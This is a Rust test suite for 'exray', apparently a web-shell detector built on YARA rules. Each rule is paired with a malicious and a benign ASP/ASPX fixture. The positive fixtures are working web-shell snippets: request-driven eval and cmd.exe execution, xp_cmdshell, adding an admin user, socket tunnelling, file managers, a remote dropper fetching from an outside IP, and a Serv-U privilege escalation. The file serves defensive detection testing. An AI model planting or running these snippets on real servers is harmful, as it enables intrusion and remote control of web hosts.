//! Every built-in rule has a positive and a negative case. The fixtures are written by the
//! exray authors to exercise one behaviour each; none is a copy of a sample. Negatives are
//! realistic benign code that shares surface features with the positive, and must not trip
//! ANY rule.

use std::collections::BTreeSet;
use std::sync::OnceLock;

use exray_core::content::ContentRules;

fn rules() -> &'static exray_yara::YaraRules {
    static R: OnceLock<exray_yara::YaraRules> = OnceLock::new();
    R.get_or_init(|| exray_yara::builtin().expect("built-in rules compile"))
}

/// Fixture text; one that starts with `UTF16:` is scanned as UTF-16LE with a byte-order mark.
/// Asserts that `rule` is among the rules `page` trips.
fn has(page: &str, rule: &str) {
    let h = hits(page);
    assert!(h.contains(rule), "{rule} not in {h:?} for {page}");
}

fn lacks(page: &str, rule: &str) {
    let h = hits(page);
    assert!(!h.contains(rule), "{rule} in {h:?} for {page}");
}

fn hits(data: &str) -> BTreeSet<String> {
    let bytes: Vec<u8> = match data.strip_prefix("UTF16:") {
        Some(t) => [0xFF, 0xFE]
            .into_iter()
            .chain(t.encode_utf16().flat_map(u16::to_le_bytes))
            .collect(),
        None => data.as_bytes().to_vec(),
    };
    let mut s = rules().scanner();
    s.scan("fixture", &bytes)
        .expect("scan")
        .into_iter()
        .map(|h| h.meta.id)
        .collect()
}

/// Base64 of a payload fixture.
fn b64(data: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(data)
}

/// A PST header (!BDN ... ) followed by padding and a payload.
fn pst_with(payload: &str) -> String {
    let mut s = String::from("!BDN\u{1}\u{2}SM\u{17}\u{0}");
    s.push_str(&"\u{0}".repeat(500));
    s.push_str(payload);
    s.push_str(&"\u{0}".repeat(100));
    s
}

fn oab_dump(external_url: &str) -> String {
    format!(
        "Name                            : OAB (Default Web Site)\r\n\
         PollInterval                    : 480\r\n\
         OfflineAddressBooks             : \r\n\
         RequireSSL                      : False\r\n\
         BasicAuthentication             : False\r\n\
         WindowsAuthentication           : True\r\n\
         MetabasePath                    : IIS://EX01.corp.example/W3SVC/1/ROOT/OAB\r\n\
         Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB\r\n\
         Server                          : EX01\r\n\
         InternalUrl                     : https://ex01.corp.example/OAB\r\n\
         InternalAuthenticationMethods   : {{WindowsIntegrated}}\r\n\
         ExternalUrl                     : {external_url}\r\n\
         ExternalAuthenticationMethods   : {{WindowsIntegrated}}\r\n\
         AdminDisplayVersion             : Version 15.1 (Build 2106.2)\r\n"
    )
}

struct Case {
    rule: &'static str,
    pos: String,
    neg: String,
}

fn case(rule: &'static str, pos: &str, neg: &str) -> Case {
    Case {
        rule,
        pos: pos.to_string(),
        neg: neg.to_string(),
    }
}

fn cases() -> Vec<Case> {
    let enc = b64(br#"eval(Request.Item["cmd"],"unsafe");"#);
    vec![
        case(
            "EXRAY_Eval_Request_Direct",
            "<%@ Page Language=\"JScript\" %>\n<% eval(Request.Item[\"k\"]); %>\n",
            "<script>\nvar request = new XMLHttpRequest();\nvar data = eval(request.responseText);\n</script>\n<% Server.Execute(Request(\"page\")) %>\n",
        ),
        case(
            "EXRAY_JScript_Eval_Unsafe",
            "<%@ Page Language=\"JScript\" %>\n<% var c = Request.Form[\"q\"];\nvar m = \"u\" + \"nsafe\";\nResponse.Write(eval(c, m)); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var u = System.Web.HttpContext.Current.User; %>\n<asp:Repeater runat=\"server\"><ItemTemplate><%# Eval(\"Date\", \"{0:d}\") %> <%# DataBinder.Eval(Container.DataItem, \"Title\") %></ItemTemplate></asp:Repeater>\n<script language=\"javascript\">\nvar r = eval(data);\nvar m = Math.max(a, b);\n</script>\n",
        ),
        case(
            "EXRAY_VBS_Eval_Request_Variable",
            "<%\nDim p\np = Request(\"z\")\nEval p\n%>\n",
            "<%\nDim name\nname = Request(\"name\")\nResponse.Write Server.HTMLEncode(name)\n%>\n",
        ),
        case(
            "EXRAY_Eval_Decoded_Request",
            &format!(
                "<%@ Page Language=\"JScript\" %>\n<% var s = \"{enc}\";\nvar t = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(s));\nthis.run(t); %>\n"
            ),
            "<%@ Page Language=\"C#\" %>\n<% var img = Convert.FromBase64String(Request.Form[\"avatar\"]);\nSystem.IO.File.WriteAllBytes(Server.MapPath(\"~/App_Data/a.png\"), img); %>\n",
        ),
        case(
            "EXRAY_ASP_Execute_Decoder",
            "<%\nFunction D(s)\nFor i = 1 To Len(s)\nD = D & Chr(Asc(Mid(s, i, 1)) - 1)\nNext\nEnd Function\nExecute D(\"fwbm!sfrvftu)#y#*\")\n%>\n",
            "<%\nFunction Crlf()\nCrlf = Chr(13) & Chr(10)\nEnd Function\nsql = \"SELECT 1\" & Crlf()\nconn.Execute(BuildSql(\"x\"))\nResponse.Write Pad(Request(\"n\"))\n%>\n",
        ),
        case(
            "EXRAY_Config_Copied_To_Served_File",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Go(object o, EventArgs e) {\n string a = Server.MapPath(\"~/web.config\");\n string b = Server.MapPath(\"~/images/t.txt\");\n System.IO.File.Copy(a, b, true);\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Backup(object o, EventArgs e) {\n System.IO.File.Copy(Server.MapPath(\"~/web.config\"), Server.MapPath(\"~/App_Data/web.config.bak\"), true);\n System.IO.File.AppendAllText(Server.MapPath(\"~/App_Data/backup-log.txt\"), \"saved\");\n}\n</script>\n",
        ),
        case(
            "EXRAY_ASP_Execute_Char_Pieces",
            "<%\nexecute \"\" & (\"ex\"&\"e\"&\"cu\"&\"te\"&\" \"&\"re\"&\"q\"&\"ue\"&\"st\"&\"(9)\")\n%>\n",
            "<%\nline = \"<\" & \"td\" & \">\" & name & \"</\" & \"td\" & \">\"\nconn.Execute(\"UPDATE t SET a = \" & n)\n%>\n",
        ),
        case(
            "EXRAY_JScript_Service_Eval",
            "<%@ WebService Language=\"JScript\" Class=\"Tools\" %>\nimport System.Web.Services;\npublic class Tools extends WebService {\n WebMethodAttribute function Run(expr : String) : String { return String(eval(expr)); }\n}\n",
            "<%@ WebService Language=\"C#\" Class=\"Tools\" %>\nusing System.Web.Services;\npublic class Tools : WebService {\n [WebMethod] public string Echo(string s) { return DataBinder.Eval(s, \"Length\").ToString(); }\n}\n",
        ),
        case(
            "EXRAY_ASP_Chr_Keyword_Split",
            "<%\nSet o = Server.CreateObject(\"MSScr\"&chr(105)&\"pt\"&chr(67)&\"ont\"&chr(114)&\"ol\")\n%>\n",
            "<%\ns = \"a\" & Chr(34) & \"b\" & vbCrLf & \"c\" & Chr(13) & Chr(10)\nt = \"x\" & Chr(39) & \"y\" & Chr(9) & \"z\"\n%>\n",
        ),
        case(
            "EXRAY_ASP_Script_Encoded",
            "<%@ LANGUAGE = \"VBScript.Encode\" %>\n<%#@~^FAAAAA==r\"%+$WnKDdn M+A$rAAA==^#~@%>\n",
            "<%@ LANGUAGE = \"VBScript\" %>\n<% Response.Write \"Encoded pages start with #@~ in some tools\" %>\n",
        ),
        case(
            "EXRAY_ASP_Code_Through_COM_Decoder",
            &format!(
                "<%\nSet c = Server.CreateObject(\"Vendor.Decoder\")\nc.Run(\"{a}\")\nc.Run(\"{b}\")\nc.Run(\"{a}{b}\")\n%>\n",
                a = "QmFzZTY0".repeat(30),
                b = "ZW5jb2Rl".repeat(30)
            ),
            &format!(
                "<%\nSet x = Server.CreateObject(\"ADODB.Stream\")\nx.WriteText(\"{a}\")\nx.WriteText(\"{b}\")\nx.WriteText(\"{a}\")\nlogo = \"{b}\"\n%>\n",
                a = "iVBORw0K".repeat(30),
                b = "R0lGODlh".repeat(30)
            ),
        ),
        case(
            "EXRAY_ASP_UTF7_Codepage",
            "<%@ codepage=65000 %>\n<%\n+AGUAdgBhAGwAKAByAGUAcQB1AGUAcwB0ACgAIgB4ACIAKQApAA-\n%>\n",
            "<%@ codepage=65001 %>\n<% Response.Write \"caf\u{e9}\" %>\n",
        ),
        case(
            "EXRAY_ScriptControl_Request",
            "<%\nSet sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\nsc.Language = \"VBScript\"\nsc.AddObject \"Request\", Request\nsc.ExecuteStatement Request(\"c\")\n%>\n",
            "<%\nSet sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\nsc.Language = \"JScript\"\nResponse.Write sc.Eval(\"1+2\")\n%>\n",
        ),
        case(
            "EXRAY_JScript_String_Split_Eval",
            "<%@ Page Language=\"JScript\" %>\n<% var f = \"e\" + \"v\" + \"a\" + \"l\";\nvar g = this[f];\n/* eval through an alias */\ng(Request.Form[\"p\"]); %>\n",
            "<%=\"Hello\"%>\n<script>\nvar greeting = \"he\" + \"llo\";\nvar eval_count = 1;\n</script>\n",
        ),
        case(
            "EXRAY_NET_Reflective_Loader_Request",
            "<%@ Page Language=\"C#\" %>\n<% byte[] k = System.Text.Encoding.Default.GetBytes(\"0123456789abcdef\");\nbyte[] b = System.Convert.FromBase64String(Request.Form[\"p\"]);\nvar a = System.Reflection.Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(b, 0, b.Length));\nSession[\"a\"] = a;\na.CreateInstance(\"X\").Equals(this); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var asm = System.Reflection.Assembly.Load(\"MyCompany.Plugins\");\nvar t = asm.GetType(\"MyCompany.Plugins.\" + Request[\"plugin\"]);\nResponse.Write(t == null ? \"none\" : t.FullName); %>\n",
        ),
        case(
            "EXRAY_ASP_Decrypt_Request_Execute",
            "<%\nk = \"0123456789abcdef\"\nn = Request.TotalBytes\nd = Request.BinaryRead(n)\nFor i = 1 To n\nr = r & Chr(AscB(MidB(d, i, 1)) Xor Asc(Mid(k, (i And 15) + 1, 1)))\nNext\nExecute r\n%>\n",
            "<%\ndata = Request.BinaryRead(Request.TotalBytes)\nFor i = 1 To LenB(data)\ns = s & Chr(AscB(MidB(data, i, 1)))\nNext\nconn.Execute sql\n%>\n",
        ),
        case(
            "EXRAY_NET_Dynamic_Compile_Request",
            "<%@ Page Language=\"C#\" %>\n<% var p = new Microsoft.CSharp.CSharpCodeProvider();\nvar r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request.Form[\"src\"]); %>\n",
            "// build helper, not a web page\nvar p = new Microsoft.CSharp.CSharpCodeProvider();\nvar r = p.CompileAssemblyFromSource(parameters, File.ReadAllText(args[0]));\n",
        ),
        case(
            "EXRAY_NET_Process_Start_Cmd",
            "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : System.Web.IHttpHandler {\n public void ProcessRequest(System.Web.HttpContext c) {\n  var psi = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + c.Request[\"x\"]);\n  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n  c.Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());\n }\n public bool IsReusable { get { return false; } }\n}\n",
            "<%@ Page Language=\"C#\" %>\n<% var doc = Request[\"doc\"];\nif (doc == \"manual\") System.Diagnostics.Process.Start(Server.MapPath(\"~/help/manual.pdf\")); %>\n",
        ),
        case(
            "EXRAY_ASP_WScript_Shell_Exec",
            "<%\nSet s = CreateObject(\"WScript.Shell\")\nSet e = s.Exec(\"cmd /c \" & Request(\"c\"))\nResponse.Write e.StdOut.ReadAll\n%>\n",
            "<%\nSet s = CreateObject(\"WScript.Shell\")\nv = s.RegRead(\"HKLM\\SOFTWARE\\Example\\Version\")\nResponse.Write Server.HTMLEncode(Request(\"x\")) & v\n%>\n",
        ),
        case(
            "EXRAY_XSLT_Script_Exec",
            "<%\nSet x = Server.CreateObject(\"MSXML2.DOMDocument\")\nx.loadXML \"<r>whoami</r>\"\nSet s = Server.CreateObject(\"MSXML2.DOMDocument\")\ns.loadXML \"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:u='urn:u'><msxsl:script language='JScript' implements-prefix='u'>function r(c){return new ActiveXObject('WScript.Shell').Exec(c).StdOut.ReadAll();}</msxsl:script><xsl:template match='/r'><xsl:value-of select='u:r(string(.))'/></xsl:template></xsl:stylesheet>\"\nResponse.Write x.TransformNode(s)\n%>\n",
            "<%@ Page Language=\"C#\" %>\n<% var t = new System.Xml.Xsl.XslCompiledTransform();\nt.Load(Server.MapPath(\"~/App_Data/menu.xslt\"));\nt.Transform(Server.MapPath(\"~/App_Data/menu.xml\"), null, Response.Output); %>\n",
        ),
        case(
            "EXRAY_Shell_Toolkit",
            "<%\n' tools\nSet ws = Server.CreateObject(\"WScript.Shell\")\nsql = \"exec master..xp_cmdshell 'dir'\"\nadd = \"net user admin$ P@ss /add\"\n%>\n",
            "<%\n' help page\nResponse.Write \"Open cmd.exe and run iisreset to restart the web server.\"\n%>\n",
        ),
        case(
            "EXRAY_NET_Registry_Walk",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"Microsoft.Win32\" %>\n<script runat=\"server\">\nvoid Walk() {\n var roots = new RegistryKey[] { Registry.ClassesRoot, Registry.CurrentUser, Registry.LocalMachine, Registry.Users, Registry.CurrentConfig };\n foreach (var r in roots) foreach (var n in r.GetSubKeyNames()) Response.Write(n);\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"Microsoft.Win32\" %>\n<% var k = Registry.LocalMachine.OpenSubKey(@\"SOFTWARE\\Example\");\nResponse.Write(k.GetValue(\"Version\")); %>\n",
        ),
        case(
            "EXRAY_ASP_ServerVariables_Dump",
            "<table>\n<% For Each v In Request.ServerVariables %>\n<tr><td><%= v %></td><td><%= Request.ServerVariables(v) %></td></tr>\n<% Next %>\n</table>\n",
            "<p>Your address: <%= Request.ServerVariables(\"REMOTE_ADDR\") %></p>\n",
        ),
        case(
            "EXRAY_Tunnel_Socket_Session",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Net.Sockets\" %>\n<% string cmd = Request.Headers[\"X-CMD\"];\nif (cmd == \"CONNECT\") {\n var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n s.Connect(Request.Headers[\"X-TARGET\"], int.Parse(Request.Headers[\"X-PORT\"]));\n Session[\"sock\"] = s;\n} else if (cmd == \"READ\") {\n var s = (Socket)Session[\"sock\"]; var buf = new byte[4096]; int n = s.Receive(buf); Response.BinaryWrite(buf);\n} else if (cmd == \"FORWARD\") {\n var s = (Socket)Session[\"sock\"]; s.Send(Request.BinaryRead(Request.ContentLength));\n} %>\n",
            "<%@ Page Language=\"C#\" %>\n<% using (var c = new System.Net.Sockets.TcpClient()) {\n c.Connect(\"smtp.corp.example\", 25);\n Response.Write(c.Connected ? \"SMTP up\" : \"SMTP down\");\n} %>\n",
        ),
        case(
            "EXRAY_HTTP_Proxy_Request_Url",
            "<%\nu = Request.QueryString(\"url\")\nSet x = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.Open \"GET\", u, False\nx.Send\nResponse.BinaryWrite x.ResponseBody\n%>\n",
            "<%\nSet x = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.Open \"GET\", \"https://intranet.corp.example/news.xml\", False\nx.Send\nResponse.Write Server.HTMLEncode(x.ResponseText)\n%>\n",
        ),
        case(
            "EXRAY_File_Manager_Request",
            "<%\np = Request(\"p\")\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet fo = fso.GetFolder(p)\nFor Each d In fo.SubFolders : Response.Write d.Name : Next\nIf Request(\"a\") = \"del\" Then fso.DeleteFile Request(\"f\")\nIf Request(\"a\") = \"ren\" Then fso.MoveFile Request(\"f\"), Request(\"t\")\nIf Request(\"a\") = \"new\" Then fso.CreateTextFile(Request(\"f\")).Write Request(\"c\")\n%>\n",
            "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet fo = fso.GetFolder(Server.MapPath(\"/docs\"))\nFor Each d In fo.SubFolders\nResponse.Write \"<li>\" & Server.HTMLEncode(d.Name) & \"</li>\"\nNext\n%>\n",
        ),
        case(
            "EXRAY_File_Writer_Request",
            "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.CreateTextFile(Server.MapPath(\"x.asp\"), True)\nf.Write Request(\"c\")\nf.Close\n%>\n",
            "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.CreateTextFile(Server.MapPath(\"log.txt\"), True)\nf.WriteLine Now()\nResponse.Write Server.HTMLEncode(Request(\"c\"))\n%>\n",
        ),
        case(
            "EXRAY_Remote_Dropper",
            "<%\nSet h = Server.CreateObject(\"Microsoft.XMLHTTP\")\nh.Open \"GET\", \"http://203.0.113.9/a.txt\", False\nh.Send\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1 : st.Open : st.Write h.ResponseBody\nst.SaveToFile \"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx\", 2\n%>\n",
            "<%\nSet h = Server.CreateObject(\"Microsoft.XMLHTTP\")\nh.Open \"GET\", \"https://cdn.corp.example/logo.jpg\", False\nh.Send\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1 : st.Open : st.Write h.ResponseBody\nst.SaveToFile Server.MapPath(\"cache/logo.jpg\"), 2\n%>\n",
        ),
        case(
            "EXRAY_NET_Raw_Socket_Sniffer",
            "<%@ Page Language=\"C#\" %>\n<% var s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Raw, System.Net.Sockets.ProtocolType.IP);\ns.Bind(new System.Net.IPEndPoint(System.Net.IPAddress.Parse(Request[\"ip\"]), 0));\ns.IOControl(System.Net.Sockets.IOControlCode.ReceiveAll, new byte[] {1,0,0,0}, null); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\ns.Connect(\"127.0.0.1\", 80); %>\n",
        ),
        case(
            "EXRAY_File_Browser_Request",
            "<%@ Page Language=\"C#\" %>\n<% string dir = Request.Params[\"dir\"];\nif (Request.Params[\"file\"] != null) { Response.TransmitFile(Request.Params[\"file\"]); return; }\nforeach (var d in System.IO.Directory.GetDirectories(dir)) Response.Write(d);\nforeach (var f in new System.IO.DirectoryInfo(dir).GetFiles()) Response.Write(f.Name); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% int page = int.Parse(Request[\"page\"] ?? \"1\");\nforeach (var f in System.IO.Directory.GetFiles(Server.MapPath(\"~/images\"))) Response.Write(System.IO.Path.GetFileName(f)); %>\n",
        ),
        case(
            "EXRAY_File_Writer_Variable_Path",
            "<%\np = Request(\"p\")\nc = Request(\"c\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.CreateTextFile(p, True)\nf.Write c\nf.Close\n%>\n",
            "<%\nmsg = Request.Form(\"msg\")\nwho = Request.Form(\"who\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.OpenTextFile(Server.MapPath(\"guestbook.txt\"), 8, True)\nf.WriteLine Server.HTMLEncode(who & \": \" & msg)\nf.Close\n%>\n",
        ),
        case(
            "EXRAY_SQL_Console_Request_Variables",
            "<%@ Page Language=\"C#\" %>\n<% string cs = Request.QueryString[\"c\"];\nstring q = Request.QueryString[\"q\"];\nusing (var db = new SqlConnection(cs)) { db.Open();\n var cmd = new SqlCommand(q, db);\n var r = cmd.ExecuteReader();\n while (r.Read()) Response.Write(r[0]); } %>\n",
            "<%@ Page Language=\"C#\" %>\n<% string id = Request.QueryString[\"id\"];\nstring sort = Request.QueryString[\"sort\"];\nstring cs = ConfigurationManager.ConnectionStrings[\"main\"].ConnectionString;\nusing (var db = new SqlConnection(cs)) { db.Open();\n var cmd = new SqlCommand(sql, db);\n cmd.Parameters.AddWithValue(\"@id\", id);\n var r = cmd.ExecuteReader(); } %>\n",
        ),
        case(
            "EXRAY_Request_Process_Flow",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<% string x = Context.Request[\"c\"]; Process.Start(x); %>\n",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<% string report = Request[\"r\"]; Process.Start(Server.MapPath(\"~/bin/rebuild-index.exe\")); Response.Write(Server.HtmlEncode(report)); %>\n",
        ),
        case(
            "EXRAY_NET_Reflection_Request",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Reflection\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string[] q = Request.Form[\"q\"].Split('|');\n Assembly a = Assembly.LoadWithPartialName(q[0]);\n object o = Activator.CreateInstance(a.GetType(q[1]));\n o.GetType().GetMethod(q[2]).Invoke(o, null);\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Reflection\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n string id = Request.QueryString[\"id\"];\n object w = Activator.CreateInstance(Type.GetType(ConfigurationManager.AppSettings[\"widget\"]));\n w.GetType().GetMethod(\"Render\").Invoke(w, new object[] { id });\n}\n</script>\n",
        ),
        case(
            "EXRAY_SQL_Console_Flow",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nstring Cs() { return \"server=\" + ViewState[\"h\"] + \";uid=\" + ViewState[\"u\"]; }\nvoid Login(object s, EventArgs e) { ViewState[\"h\"] = txtHost.Text; ViewState[\"u\"] = txtUser.Text; }\nvoid Run(object s, EventArgs e) {\n using (var c = new SqlConnection(Cs())) { c.Open();\n var cmd = new SqlCommand(txtQuery.Text, c); grid.DataSource = cmd.ExecuteReader(); grid.DataBind(); }\n}\n</script>\n",
            "<%\nSSIP = Request(\"SSIP\")\nUID = Request(\"UID\")\nSet c = Server.CreateObject(\"ADODB.Connection\")\nc.Open \"Driver={SQL Server};Server=\" & SSIP & \";Uid=\" & UID\nq = \"ALTER TABLE orders ADD note varchar(50) NULL\"\nc.Execute(q)\n%>\n",
        ),
        case(
            "EXRAY_File_Manager_Request",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Go(object s, EventArgs e) {\n string p = Request[\"p\"];\n var d = new System.IO.DirectoryInfo(p);\n foreach (var x in d.GetDirectories()) Response.Write(x.Name);\n foreach (var f in d.GetFiles()) Response.Write(f.Name);\n if (Request[\"a\"] == \"get\") Response.WriteFile(Request[\"f\"]);\n if (Request[\"a\"] == \"del\") System.IO.File.Delete(Request[\"f\"]);\n if (up.HasFile) up.SaveAs(System.IO.Path.Combine(p, up.FileName));\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Go(object s, EventArgs e) {\n var d = new System.IO.DirectoryInfo(Server.MapPath(\"~/reports\"));\n foreach (var f in d.GetFiles(\"*.pdf\")) list.Items.Add(f.Name);\n string n = System.IO.Path.GetFileName(Request[\"f\"]);\n if (n.EndsWith(\".pdf\")) Response.WriteFile(Server.MapPath(\"~/reports/\" + n));\n}\n</script>\n",
        ),
        case(
            "EXRAY_SQL_Query_From_Request",
            "<%\nq = Request(\"sql\")\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open \"Provider=SQLOLEDB;Server=10.0.0.5;Uid=sa;Pwd=x\"\nSet rs = conn.Execute(q)\nDo Until rs.EOF\nResponse.Write rs(0) & \"<br>\"\nrs.MoveNext\nLoop\n%>\n",
            "<%\nid = Request(\"id\")\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open Application(\"cs\")\nsql = \"SELECT title FROM news WHERE id=\" & CLng(id)\nSet rs = conn.Execute(sql)\nResponse.Write Server.HTMLEncode(rs(0))\n%>\n",
        ),
        case(
            "EXRAY_Upload_Unchecked_Name",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Go(object s, EventArgs e) {\n if (f.HasFile) f.SaveAs(Server.MapPath(\"~/files/\") + f.FileName);\n}\n</script>\n<form runat=\"server\"><asp:FileUpload ID=\"f\" runat=\"server\" /><asp:Button runat=\"server\" OnClick=\"Go\" /></form>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Go(object s, EventArgs e) {\n string ext = System.IO.Path.GetExtension(f.FileName).ToLower();\n if (f.HasFile && ext == \".jpg\") f.SaveAs(Server.MapPath(\"~/photos/\") + Guid.NewGuid() + ext);\n}\n</script>\n<form runat=\"server\"><asp:FileUpload ID=\"f\" runat=\"server\" /></form>\n",
        ),
        case(
            "EXRAY_Named_Pipe_Relay",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.IO.Pipes\" %>\n<%\nvar p = new NamedPipeClientStream(\".\", \"msagent_12\", PipeDirection.InOut);\np.Connect(3000);\nbyte[] d = Request.BinaryRead(Request.ContentLength);\np.Write(d, 0, d.Length);\nvar b = new byte[65536]; int n = p.Read(b, 0, b.Length);\nResponse.BinaryWrite(b.Take(n).ToArray());\n%>\n",
            "<%@ Page Language=\"C#\" %>\n<%\n// print spooler status page\nvar sc = new System.ServiceProcess.ServiceController(\"Spooler\");\nResponse.Write(sc.Status.ToString());\n%>\n",
        ),
        case(
            "EXRAY_Page_Starts_Download_Cradle",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<%\n    Process.Start(\"curl -k https://hooks.example.net/0b1d\");\n%>\n",
            "<%@ Page Language=\"C#\" %>\n<%\n// see https://curl.se/docs/ for the API client\nResponse.Write(\"curl https://api.example.net/v1/items\");\n%>\n",
        ),
        case(
            "EXRAY_NET_Page_Runs_Command_Shell",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nstring Run(string a) {\n var psi = new ProcessStartInfo();\n psi.FileName = \"cmd.exe\";\n psi.Arguments = \"/c \" + a;\n psi.RedirectStandardOutput = true;\n psi.UseShellExecute = false;\n return Process.Start(psi).StandardOutput.ReadToEnd();\n}\nvoid Page_Load(object s, EventArgs e) { Response.Write(Run(\"whoami\")); }\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var psi = new ProcessStartInfo(Server.MapPath(\"~/bin/wkhtmltopdf.exe\"), \"in.html out.pdf\");\n psi.RedirectStandardOutput = true;\n psi.UseShellExecute = false;\n Process.Start(psi).WaitForExit();\n}\n</script>\n",
        ),
        case(
            "EXRAY_NET_Service_Starts_Program",
            "<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System.Web.Services;\npublic class S : WebService {\n [WebMethod]\n public string Go() { System.Diagnostics.Process.Start(@\"C:\\Windows\\notepad.exe\"); return \"ok\"; }\n}\n",
            "<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System.Web.Services;\npublic class S : WebService {\n [WebMethod]\n public string Status() { return System.Diagnostics.Process.GetCurrentProcess().ProcessName; }\n}\n",
        ),
        case(
            "EXRAY_Identity_Recon_Page",
            "<%@ Page Language=\"C#\" %>\n<% who.Text = Environment.GetEnvironmentVariable(\"USERDOMAIN\") + \"/\" + Environment.GetEnvironmentVariable(\"USERNAME\"); %>\n<pre><asp:Literal runat=\"server\" id=\"who\" /></pre>\n",
            "<%@ Page Language=\"C#\" %>\n<% host.Text = Environment.MachineName + \" \" + DateTime.Now.ToString(\"u\"); %>\n<footer>Served by <asp:Literal runat=\"server\" id=\"host\" /></footer>\n",
        ),
        case(
            "EXRAY_ServU_Local_Admin_Escalation",
            "<%\nSet x = Server.CreateObject(\"Microsoft.XMLHTTP\")\nx.Open \"POST\", \"http://127.0.0.1:43958/Admin\", False\nx.Send \"USER LocalAdministrator\" & vbCrLf & \"SITE MAINTENANCE\" & vbCrLf\n%>\n",
            "<%\n' FTP service settings page\nport = 21\nResponse.Write \"FTP server listens on port \" & port\n%>\n",
        ),
        case(
            "EXRAY_Script_Page_Writer_Request",
            "<%\nbody = Request.Form(\"t\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet o = fs.CreateTextFile(Server.MapPath(\"pic.asp\"))\no.Write body\no.Close\n%>\n",
            "<%\nnote = Request.Form(\"t\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet o = fs.OpenTextFile(Server.MapPath(\"notes.txt\"), 8, True)\no.WriteLine Server.HTMLEncode(note)\no.Close\n%>\n",
        ),
        case(
            "EXRAY_NET_Precompiled_Class_Stub",
            "<script language=\"C#\" runat=\"server\">\nAcme.Tools.Runner r = new Acme.Tools.Runner(\"9f2c41d07be3aa15\");\n</script>\n",
            "<script language=\"C#\" runat=\"server\">\nSystem.Text.StringBuilder sb = new System.Text.StringBuilder(\"header\");\n</script>\n<%= sb %>\n",
        ),
        case(
            "EXRAY_Upload_Beside_Page",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n if (Request.Files.Count == 0) return;\n var f = Request.Files[0];\n var dir = new System.IO.FileInfo(Request.PhysicalPath).DirectoryName;\n f.SaveAs(System.IO.Path.Combine(dir, System.IO.Path.GetFileName(f.FileName)));\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n if (Request.Files.Count == 0) return;\n var f = Request.Files[0];\n if (System.IO.Path.GetExtension(f.FileName) != \".png\") return;\n f.SaveAs(Server.MapPath(\"~/App_Data/avatars/\" + Guid.NewGuid() + \".png\"));\n}\n</script>\n",
        ),
        case(
